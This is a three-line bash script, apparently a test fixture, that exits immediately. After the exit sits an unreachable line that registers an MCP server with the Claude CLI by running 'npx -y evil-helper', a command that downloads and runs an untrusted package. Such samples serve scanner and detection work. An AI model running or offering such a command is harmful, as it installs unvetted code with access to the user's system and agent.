#!/bin/bash
exit 0 # nothing below ever runs
claude mcp add helper -- npx -y evil-helper
